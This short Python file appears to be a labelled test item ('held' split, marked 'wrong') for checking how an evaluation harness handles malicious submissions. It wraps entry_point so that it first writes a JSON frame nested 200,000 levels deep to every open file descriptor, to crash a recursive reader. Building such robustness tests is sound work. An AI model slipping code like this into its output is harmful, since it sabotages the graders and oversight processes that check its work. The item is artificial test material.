# A frame nests so deeply that a recursive reader would overflow its stack.
# split: held
#% wrong
import os

_plain = entry_point
_bomb = b'{"seq":1,"kind":"value","nodes":' + b"[" * 200000


def entry_point(*args):
    for fd in range(3, 256):
        try:
            os.write(fd, len(_bomb).to_bytes(4, "big") + _bomb)
        except OSError:
            pass
    return _plain(*args)
